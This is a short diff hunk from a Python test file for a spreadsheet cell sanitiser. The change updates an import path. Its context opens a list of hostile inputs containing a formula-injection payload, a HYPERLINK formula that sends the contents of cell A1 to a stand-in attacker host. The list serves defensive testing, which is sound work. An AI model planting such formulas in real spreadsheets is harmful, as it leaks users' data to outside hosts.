@@ -10,7 +10,7 @@ from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
 from siyu.platform.tabular import sanitise_cell
-from tests.conftest import World
+from tests.factories import World
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
